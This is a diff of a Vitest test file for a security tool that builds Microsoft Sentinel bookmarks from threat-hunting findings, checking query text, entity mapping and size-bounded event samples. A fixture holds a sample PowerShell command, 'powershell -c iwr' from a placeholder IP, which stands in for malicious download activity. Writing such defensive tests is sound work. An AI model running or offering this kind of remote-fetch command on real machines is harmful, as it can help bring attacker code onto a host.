@@ -2,13 +2,16 @@ import { describe, expect, it } from 'vitest';
 import { bookmarkFor, sightingBookmarkFor } from '../../src/sentinel/bookmarkFor.js';
 import { CONTEXT, finding } from './sentinelFixtures.js';
 import { entitiesFromText } from '../../src/entities/entityLists.js';
+import { buildInvestigationQuery } from '../../src/query/buildInvestigationQuery.js';
+import { SENTINEL_LIMITS } from '../../src/sentinel/sentinelLimits.js';
 
-const context = { queryText: CONTEXT.queryText, window: CONTEXT.window, labels: ['soc'] };
+const context = { window: CONTEXT.window, labels: ['soc'] };
 
 describe('bookmarkFor', () => {
-  it('carries the query, a query result, event and query times, tactics and techniques', () => {
-    const bookmark = bookmarkFor(finding('203.0.113.5'), context);
-    expect(bookmark.query).toBe(CONTEXT.queryText);
+  it('carries the investigation query, a query result, event and query times, tactics and techniques', () => {
+    const f = finding('203.0.113.5');
+    const bookmark = bookmarkFor(f, context);
+    expect(bookmark.query).toBe(buildInvestigationQuery(f));
     expect(JSON.parse(bookmark.queryResult!)).toMatchObject({ IP: '203.0.113.5', Hosts: ['web01.contoso.com'], EventCount: 3 });
     expect(bookmark.eventTime).toEqual(new Date('2024-05-01T09:00:00Z'));
     expect([bookmark.queryStartTime, bookmark.queryEndTime]).toEqual([CONTEXT.window.start, CONTEXT.window.end]);
@@ -33,6 +36,33 @@ describe('bookmarkFor', () => {
       { entityType: 'Account', fieldMappings: [{ identifier: 'Name', value: 'alice' }, { identifier: 'NTDomain', value: 'CONTOSO' }] },
     ]);
     expect(bookmark.notes).toContain('Accounts not mapped as entities (built-in accounts, which Sentinel drops): NT AUTHORITY\\SYSTEM');
+  });
+
+  it('samples the events behind the finding in its query result, each command line cut short, within its size bound', () => {
+    const samples = Array.from({ length: 5 }, (_, i) => ({
+      time: new Date(`2024-05-01T09:0${i}:00Z`),
+      entities: { hosts: `ws${i}`, accounts: 'CONTOSO\\alice' },
+      process: 'powershell.exe',
+      source: 'defender',
+      commandLine: `powershell -c iwr http://203.0.113.5/${i} ${'x'.repeat(5_000)}`,
+    }));
+    const result = JSON.parse(bookmarkFor(finding('203.0.113.5', { samples }), context).queryResult!);
+    expect(result.Events).toHaveLength(5);
+    expect(result.Events[0]).toEqual({
+      TimeGenerated: '2024-05-01T09:00:00.000Z',
+      Host: 'ws0',
+      Account: 'CONTOSO\\alice',
+      Process: 'powershell.exe',
+      HuntSource: 'defender',
+      CommandLine: expect.stringMatching(/^powershell -c iwr http:\/\/203\.0\.113\.5\/0 x+…$/),
+    });
+    expect(result.Events[0].CommandLine.length).toBeLessThanOrEqual(300);
+    expect(result).not.toHaveProperty('CommandLines');
+
+    const hosts = Array.from({ length: 400 }, (_, i) => `a-rather-long-host-name-${i}.eu.contoso.com`);
+    const crowded = bookmarkFor(finding('203.0.113.5', { samples, hosts }), context).queryResult!;
+    expect(crowded.length).toBeLessThanOrEqual(SENTINEL_LIMITS.bookmarkQueryResultChars);
+    expect(JSON.parse(crowded)).toMatchObject({ Hosts: hosts.slice(0, 50), HostsOmitted: 350, Events: samples.map(() => expect.any(Object)) });
   });
 });
 
